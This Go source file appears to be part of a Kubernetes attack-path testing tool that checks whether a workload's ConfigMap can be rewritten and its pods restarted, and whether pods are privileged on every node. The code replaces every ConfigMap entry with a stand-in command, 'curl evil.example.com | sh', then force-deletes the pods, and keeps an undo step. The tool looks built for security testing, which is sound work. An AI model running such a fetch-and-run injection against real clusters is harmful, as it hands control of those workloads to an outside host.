package walk

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/utils/ptr"
)

const evilScript = "curl evil.example.com | sh"

// changeProgram writes the ConfigMap that each pod of a workload runs a program
// from, and has them start again.
func changeProgram(ctx context.Context, a attempt) error {
	client, err := a.client()
	if err != nil {
		return err
	}
	pods, err := a.eachPod(ctx, a.hop.To)
	if err != nil {
		return err
	}
	name, err := configMapOf(&pods[0])
	if err != nil {
		return err
	}
	if err := a.rewrite(ctx, client, pods[0].Namespace, name); err != nil {
		return err
	}
	for i := range pods {
		if err := client.CoreV1().Pods(pods[i].Namespace).Delete(ctx, pods[i].Name, metav1.DeleteOptions{GracePeriodSeconds: ptr.To[int64](0)}); err != nil {
			return fmt.Errorf("delete pod: %w", err)
		}
	}
	return soon(ctx, "each pod runs the new program", func(ctx context.Context) (bool, error) { return a.allStarted(ctx, pods, name) })
}

// rewrite changes every program in a ConfigMap.
func (a attempt) rewrite(ctx context.Context, client kubernetes.Interface, namespace, name string) error {
	config, err := client.CoreV1().ConfigMaps(namespace).Get(ctx, name, metav1.GetOptions{})
	if err != nil {
		return fmt.Errorf("get ConfigMap: %w", err)
	}
	before := config.DeepCopy()
	for key := range config.Data {
		config.Data[key] = evilScript
	}
	if _, err := client.CoreV1().ConfigMaps(namespace).Update(ctx, config, metav1.UpdateOptions{}); err != nil {
		return fmt.Errorf("update ConfigMap: %w", err)
	}
	a.undo = append(a.undo, func(ctx context.Context) error {
		before.ResourceVersion = ""
		_, err := a.admin.CoreV1().ConfigMaps(namespace).Update(ctx, before, metav1.UpdateOptions{})
		return err
	})
	return nil
}

// allStarted tells whether other pods are in the place of those that were, and
// their nodes read the new program.
func (a attempt) allStarted(ctx context.Context, before []corev1.Pod, name string) (bool, error) {
	now, err := a.eachPod(ctx, a.hop.To)
	if err != nil || len(now) != len(before) {
		return false, ignoreGone(err)
	}
	for i := range now {
		same := func(p corev1.Pod) bool { return p.UID == now[i].UID }
		if now[i].Spec.NodeName == "" || slices.ContainsFunc(before, same) {
			return false, nil
		}
		node, err := a.node(now[i].Spec.NodeName)
		if err != nil {
			return false, err
		}
		config, err := node.CoreV1().ConfigMaps(now[i].Namespace).Get(ctx, name, metav1.GetOptions{})
		if err != nil {
			return false, nil //nolint:nilerr // the authorizer does not know yet that the pod is on the node
		}
		for key, text := range config.Data {
			if text != evilScript {
				return false, fmt.Errorf("%s of %s is %q", key, name, text)
			}
		}
	}
	return true, nil
}

// eachPod lists the pods of a text such as "code in container main of each pod
// of kube-system/DaemonSet/agent".
func (a attempt) eachPod(ctx context.Context, text string) ([]corev1.Pod, error) {
	_, workload, found := strings.Cut(text, " of each pod of ")
	parts := strings.Split(workload, "/")
	if !found || len(parts) != 3 {
		return nil, fmt.Errorf("%q names no workload", text)
	}
	pods, err := a.pods(ctx)
	if err != nil {
		return nil, err
	}
	if pods = of(pods, parts[0], parts[2]); len(pods) == 0 {
		return nil, errors.New("no pod of " + workload)
	}
	return pods, nil
}

func configMapOf(pod *corev1.Pod) (string, error) {
	for _, v := range pod.Spec.Volumes {
		if v.ConfigMap != nil {
			return v.ConfigMap.Name, nil
		}
	}
	return "", errors.New("the pod mounts no ConfigMap")
}

// escapeEach leaves the containers of all pods of a workload for their nodes. No
// request does that; what can be seen is that they are privileged, and where.
func escapeEach(ctx context.Context, a attempt) error {
	pods, err := a.eachPod(ctx, a.hop.From)
	if err != nil {
		return err
	}
	held := map[string]bool{}
	for _, p := range pods {
		s := p.Spec.Containers[0].SecurityContext
		held[p.Spec.NodeName] = s != nil && ptr.Deref(s.Privileged, false)
	}
	nodes, err := a.admin.CoreV1().Nodes().List(ctx, metav1.ListOptions{})
	if err != nil {
		return fmt.Errorf("list nodes: %w", err)
	}
	for _, n := range nodes.Items {
		if !held[n.Name] {
			return errors.New("no privileged pod is on " + n.Name)
		}
	}
	return nil
}
